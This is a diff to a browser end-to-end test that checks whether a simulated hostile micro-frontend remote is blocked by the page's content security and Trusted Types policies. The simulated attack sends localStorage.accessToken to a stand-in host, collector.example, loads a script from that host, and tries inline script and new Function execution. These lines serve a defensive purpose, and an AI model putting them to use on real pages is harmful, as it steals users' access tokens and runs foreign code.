@@ -13,6 +13,7 @@ test('a hostile remote gets neither through the gate with what is others’, nor
   account,
   enter,
   market,
+  refused,
 }) => {
   const buyers = market.team('mfe-buyer');
   const seller = market.team('mfe-seller');
@@ -45,11 +46,11 @@ test('a hostile remote gets neither through the gate with what is others’, nor
     fetch('https://collector.example/', { method: 'POST', body: localStorage.accessToken, mode: 'no-cors' }).then(...note('send'));
     fetch('/remotes/mfe-admin/${admins!.release}/release.json').then((answer) => (outcomes.read = answer.status));
     const foreign = document.createElement('script');
-    foreign.src = 'https://collector.example/more.js';
     [foreign.onload, foreign.onerror] = note('load');
+    try { foreign.src = 'https://collector.example/more.js'; } catch { outcomes.load = 'refused'; }
     document.head.append(foreign);
     const inline = document.createElement('script');
-    inline.textContent = 'globalThis.ranInline = true';
+    try { inline.textContent = 'globalThis.ranInline = true'; } catch { outcomes.write = 'refused'; }
     document.head.append(inline);
     try { new Function('globalThis.evaluated = true')(); } catch { outcomes.evaluate = 'refused'; }
   }`;
@@ -67,8 +68,17 @@ test('a hostile remote gets neither through the gate with what is others’, nor
   }).toPass({ timeout: 8_000 });
   await expect
     .poll(() => page.evaluate(() => (globalThis as { outcomes?: object }).outcomes))
-    .toEqual({ send: 'refused', read: 404, load: 'refused', evaluate: 'refused' });
+    .toEqual({
+      send: 'refused',
+      read: 404,
+      load: 'refused',
+      write: 'refused',
+      evaluate: 'refused',
+    });
   expect(await page.evaluate(() => 'ranInline' in globalThis)).toBe(false);
+  const directives = new Set(refused.splice(0).map((each) => each.split(' ', 1)[0]));
+  expect(directives).toContain('connect-src');
+  expect(directives).toContain('require-trusted-types-for');
   await rollBack(buyers);
 });
 
